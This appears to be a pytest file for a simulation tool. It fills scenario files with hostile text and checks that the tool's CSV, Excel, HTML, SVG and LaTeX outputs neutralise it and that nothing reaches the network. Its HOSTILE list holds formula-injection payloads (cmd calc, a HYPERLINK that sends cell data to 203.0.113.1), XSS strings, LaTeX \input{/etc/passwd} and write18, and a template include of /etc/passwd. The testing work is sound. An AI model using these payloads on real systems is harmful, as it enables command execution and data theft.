"""A plan whose every text is an attack, on the real model: each file that is written keeps it as text.

And what is read and written stays in its folder, and nothing is fetched.
"""

from __future__ import annotations

import csv
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook
from ruamel.yaml import YAML

from sim.cli import main
from sim.results.frames import write_frame
from sim.scenario import load
from sim.scenario.schema import LONGEST
from sim.sweep import analyse, page, response
from sim.sweep.plan import read_plan
from sim.sweep.store import create
from sim.sweep.task import run_task
from sim.sweep.words import About
from tests.here import without_processes
from tests.sweep.conftest import PLAN

ROOT = Path(__file__).parents[2]
HOSTILE = (
    '=HYPERLINK("http://203.0.113.1/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script><script>alert(1)</script><img src=x onerror=alert(2)>",
    "]]></style><svg onload=alert(3)><a href='javascript:alert(4)'>x</a>",
    '"><iframe src="//203.0.113.1"></iframe>',
    r"\input{/etc/passwd}\write18{true}^^5cinput{x} $\nosuch{ % & # ~ _",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "＝1+1",
)
"""Of texts in scenario files; characters that are not seen are refused when the file is read (test_inputs)."""
FORMULA = re.compile(r"[=+\-@＝＋－＠]")


def poisoned(tree: Any, texts: Any) -> Any:
    """A tree with every text for readers replaced."""
    if isinstance(tree, dict):
        replace = ("says", "why", "note", "title", "what")
        return {
            key: {"en": next(texts), "ko": next(texts)} if key in replace and isinstance(child, dict)
            else next(texts) if key in ("outlet", "note") and isinstance(child, str)
            else "javascript:alert(5)" if key == "address"
            else poisoned(child, texts)
            for key, child in tree.items()
        }  # fmt: skip
    return [poisoned(child, texts) for child in tree] if isinstance(tree, list) else tree


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped scenarios, their sources and a baseline of which every text is an attack."""
    folder = Path(shutil.copytree(ROOT / "scenarios", tmp_path_factory.mktemp("shelf") / "scenarios"))
    reader = YAML(typ="safe", pure=True)
    texts = itertools.cycle(HOSTILE)
    for name in ("kim_moonsoo", "baseline", "sources"):
        tree = poisoned(reader.load((folder / f"{name}.yaml").read_text(encoding="utf-8")), texts)
        (folder / f"{name}.yaml").write_text(json.dumps(tree, ensure_ascii=False, default=str), encoding="utf-8")
    return folder


def made(plan: Path, out: Path, *figures: str) -> dict[str, Path]:
    """Folders of a run and of a comparison of a plan; figures: options of the comparison."""
    short = ["--scale", "0.01", "--runs", "2", "--workers", "1", "--out", str(out)]
    with without_processes():
        assert main([str(plan), *short]) == 0
        assert main(["compare", str(plan), str(plan.parent / "lee_junseok.yaml"), *short, *figures]) == 0
    (run,), (compare,) = (list((out / name).iterdir()) for name in ("kim_moonsoo", "compare"))
    return {"run": run, "compare": compare}


@pytest.fixture(scope="module")
def written(shelf: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """What is written of the plan with the attacks."""
    return made(shelf / "kim_moonsoo.yaml", tmp_path_factory.mktemp("out"), "--figures", "svg")


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """What is written of the plan as it is shipped; its pages are compared by tags, and carry no font."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sim.report.webfont._subset", lambda *_: b"")
        return made(ROOT / "scenarios" / "kim_moonsoo.yaml", tmp_path_factory.mktemp("harmless"))


KINDS = ("run", "compare")


def files(folder: Path, ending: str, least: int = 1) -> list[Path]:
    found = sorted(folder.rglob(f"*.{ending}"))
    assert len(found) >= least, ending
    return found


@pytest.mark.parametrize("kind", KINDS)
def test_no_cell_of_any_table_is_a_formula(written: dict[str, Path], kind: str) -> None:
    guarded = 0
    for path in files(written[kind], "csv", 10):
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
            for cell in row:
                if FORMULA.match(cell):
                    float(cell)  # a number with its sign, or the test fails
                guarded += cell.startswith("'")
    assert guarded > 20
    for path in files(written[kind], "xlsx", 2):
        for sheet in load_workbook(path).worksheets:
            for line in sheet.iter_rows():
                assert all(cell.data_type in ("s", "n") and cell.hyperlink is None for cell in line)


def test_heads_and_categories_are_guarded_and_numbers_stay(tmp_path: Path) -> None:
    table = pd.DataFrame({"=1": ["-x", None], "b": pd.Categorical(["@a", "@a"]), "c": [-1.25, float("nan")], "d": True})
    write_frame(table, tmp_path / "t.csv", "%.9g")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == "'=1,b,c,d\n'-x,'@a,-1.25,True\n,'@a,,True\n"


def test_cells_are_those_of_pandas_where_nothing_is_guarded(tmp_path: Path) -> None:
    table = pd.DataFrame({
        "mixed": pd.Series([1, True, 1.0, 'x,"y"', None], dtype=object), "text": ["a", "c", "d,e", "", "한"],
        "whole": [0, -1, 10**15, 2, 3], "float": [1e-7, 1e300, float("inf"), -0.0, 0.1 + 0.2],
    })  # fmt: skip
    for number in (None, "%.9g"):
        write_frame(table, tmp_path / "t.csv", number)
        assert (tmp_path / "t.csv").read_text(encoding="utf-8") == table.to_csv(
            index=False, float_format=number, lineterminator="\n"
        )


class Tags(HTMLParser):
    """Every kind of tag with the names of its attributes, and where attributes point to."""

    def __init__(self) -> None:
        super().__init__()
        self.kinds: set[tuple[str, str]] = set()
        self.scripts, self.targets = 0, []  # type: ignore[var-annotated]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.kinds |= {(tag, name) for name, _ in attrs} | {(tag, "")}
        self.scripts += tag == "script"
        self.targets += [value or "" for name, value in attrs if name in ("src", "href", "xlink:href", "action")]


def tags(path: Path) -> Tags:
    found = Tags()
    found.feed(path.read_text(encoding="utf-8"))
    found.close()
    return found


@pytest.mark.parametrize("kind", KINDS)
def test_pages_have_the_tags_that_they_have_without_the_attack(
    written: dict[str, Path], harmless: dict[str, Path], kind: str
) -> None:
    for path in files(written[kind], "html", 5):
        hostile, plain = tags(path), tags(harmless[kind] / path.relative_to(written[kind]))
        assert hostile.kinds <= plain.kinds | {("td", "rowspan")}, path.name  # equal labels of neighbours span rows
        assert hostile.scripts == plain.scripts
        assert all(target.startswith(("#", "data:")) for target in hostile.targets), hostile.targets
        assert not any(name.startswith("on") for _, name in hostile.kinds)
        if path.name == "report.html":
            assert "{{ 7 * 7 }}" in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", KINDS)
def test_drawings_are_drawings(written: dict[str, Path], kind: str) -> None:
    for path in files(written[kind], "svg", 8):
        for element in ET.parse(path).iter():
            assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "a", "iframe", "image"), path.name
            for name, value in element.attrib.items():
                assert not name.rpartition("}")[2].startswith("on")
                if name.endswith("href"):
                    assert value.startswith("#")


@pytest.mark.parametrize("kind", KINDS)
def test_latex_has_only_commands_of_tables(written: dict[str, Path], kind: str) -> None:
    own = {
        "begin", "end", "caption", "toprule", "midrule", "bottomrule", "endhead", "addlinespace", "multicolumn",
        "noindent", "par", "textbackslash", "textasciicircum", "sim", "pm", "cdot", "to", "approx", "cmidrule",
        "begingroup", "endgroup", "setlength", "tabcolsep", "linewidth", "dimexpr", "relax", "allowbreak",
        "arraybackslash", "raggedleft", "raggedright", "centering", "small", "footnotesize", "scriptsize", "tiny",
    }  # fmt: skip
    for path in files(written[kind], "tex", 5):
        text = path.read_text(encoding="utf-8")
        assert set(re.findall(r"\\([a-zA-Z]+)", text)) <= own, path.name
        assert "^^" not in text and not re.search(r"(?<!\\)[#~]", text)
        assert len(re.findall(r"(?<!\\)%", text)) == 1  # the comment of the first line
        assert text.count("{") - text.count(r"\{") == text.count("}") - text.count(r"\}")


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_kept_of_the_files_reads_as_it_was_written(written: dict[str, Path], shelf: Path, kind: str) -> None:
    resolved = YAML(typ="safe", pure=True).load(written[kind] / "scenario" / "kim_moonsoo.resolved.yaml")
    plan = load(shelf / "kim_moonsoo.yaml")
    assert resolved["title"] == plan.title
    assert [pledge["says"] for pledge in resolved["pledges"]] == [pledge["says"] for pledge in plan.pledges]
    json.loads((written[kind] / "manifest.json").read_text(encoding="utf-8"))


def test_nothing_is_written_outside_the_folder(written: dict[str, Path]) -> None:
    out = written["run"].parents[1]
    assert sorted(path.name for path in out.iterdir()) == ["compare", "kim_moonsoo"]
    assert not [path for path in out.rglob("*") if path.is_symlink()]


@pytest.mark.parametrize("design", ["latin_hypercube, samples: 6", "morris, trajectories: 3, levels: 4"])
def test_a_sweep_with_a_hostile_title_is_analysed(
    shelf: Path, tmp_path: Path, design: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = PLAN.replace(str(ROOT / "scenarios"), str(shelf)).replace("latin_hypercube, samples: 6", design)
    text = text.replace("outcomes: [", "outcomes: [Labour Productivity|Manufacturing, ")
    title = json.dumps({"en": " ".join(HOSTILE), "ko": HOSTILE[0]}, ensure_ascii=False)
    (tmp_path / "small.yaml").write_text(text.replace("{en: small, ko: 시험}", title), encoding="utf-8")
    store, plan = create(tmp_path / "small.yaml", tmp_path / "out")
    for task in store.tasks():
        assert run_task(str(store.folder), task) == 0
    assert main(["sweep", "analyse", str(store.folder), "--year", "2030"]) == 0
    for path in files(store.folder / "analysis", "svg"):
        assert {element.tag.rpartition("}")[2] for element in ET.parse(path).iter()}.isdisjoint({"script", "a"})
    if plan.design == "morris":
        lines = page.document([(store, plan)])
        assert not any("<script" in line or "<img" in line for line in lines)
        assert sum(line.startswith("#") for line in lines) == 2


def test_the_drawing_of_a_sweep_does_not_read_mathematics(tmp_path: Path) -> None:
    index = pd.DataFrame({"outcome": "a_$b$", "varied": ["x_$\\no{$"], "total": [0.5], "total_interval": [0.1]})
    title = r"$\nosuch{ and $"
    words = {"en": title, "ko": title}
    scenarios = (SimpleNamespace(id="a_$b$", title=words, levers=()),)
    plan: Any = SimpleNamespace(title=words, replications=2, scenarios=scenarios)
    about = About(plan, "a_$b$", "Korea", 2030, "$%")
    analyse.draw(index, about, tmp_path / "one", "en")
    effect = pd.DataFrame(
        {"outcome": ["a"] * 2, "varied": "$x", "value": [0.0, 1.0], "mean": 1.0, "p05": 0.5, "p95": 2.0}
    )
    response.draw(effect, about, tmp_path / "two", "ko")
    assert len(files(tmp_path, "svg", 2)) == 2


# --- sizes


def test_a_text_without_end_is_refused(shelf: Path) -> None:
    from tests.robust.test_inputs import HEAD, refused

    text = HEAD.format(id="mine").replace("en: A", f"en: {'A' * (LONGEST + 1)}")
    assert f"the text has {LONGEST + 1} letters, more than {LONGEST}\n  hint: paraphrase it" in refused(shelf, text)


def test_a_pipe_is_not_waited_for(shelf: Path) -> None:
    from tests.robust.test_inputs import HEAD, refused

    os.mkfifo(shelf / "pipe.csv")
    text = HEAD.format(id="mine") + "assume: {policy_rate: {file: pipe.csv}}\n"
    assert "the file 'pipe.csv': this is a device or a pipe, not a file" in refused(shelf, text)


@pytest.mark.parametrize("value", ["1e308", "-1e308", ".inf", ".nan", "9" * 400])
def test_a_point_of_a_sweep_lies_where_its_parameter_can(tmp_path: Path, value: str) -> None:
    from sim.scenario import ScenarioError

    text = PLAN.replace("kind: latin_hypercube, samples: 6", f"kind: list, points: [[0.05, {value}]]")
    (tmp_path / "small.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ScenarioError, match=r"is outside what grid_on_time accepts, 0 to 1|one number for each of"):
        read_plan(tmp_path / "small.yaml")


# --- nothing is fetched

CLOSED = """
import os, sys

def refuse(event, arguments):
    inet = event == "socket.connect" and arguments[0].family.name.startswith("AF_INET")
    if inet or event in ("socket.getaddrinfo", "socket.gethostbyname", "urllib.Request", "http.client.connect"):
        with open(os.environ["FETCHED"], "a") as file:
            file.write(f"{event} {arguments[1:]}\\n")
        raise OSError("no network here")

sys.addaudithook(refuse)
"""
"""Read by every Python that a command starts."""


@pytest.mark.full
def test_nothing_is_fetched_while_anything_runs(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text(textwrap.dedent(CLOSED), encoding="utf-8")
    (tmp_path / "small.yaml").write_text(PLAN, encoding="utf-8")
    environment = {**os.environ, "PYTHONPATH": str(tmp_path), "FETCHED": str(tmp_path / "fetched")}
    probe = [sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', 9))"]
    assert b"no network here" in subprocess.run(probe, env=environment, capture_output=True, check=False).stderr
    (tmp_path / "fetched").unlink()
    plan, short = "scenarios/kim_moonsoo.yaml", ["--scale", "0.01", "--runs", "1", "--workers", "1", "--until", "2031"]
    out, sweep = ["--out", str(tmp_path / "out")], str(tmp_path / "sweep")
    for words in (
        ["check", plan],
        ["explain", "kms_power"],
        [plan, *short, *out],
        ["compare", plan, *short, *out, "--figures", "svg"],
        ["sweep", "run", str(tmp_path / "small.yaml"), "--out", sweep, "--limit", "2", "--workers", "1"],
        ["sweep", "collect", sweep],
    ):
        command = [sys.executable, "-m", "sim.cli", *words]
        done = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
    assert not (tmp_path / "fetched").exists(), (tmp_path / "fetched").read_text()
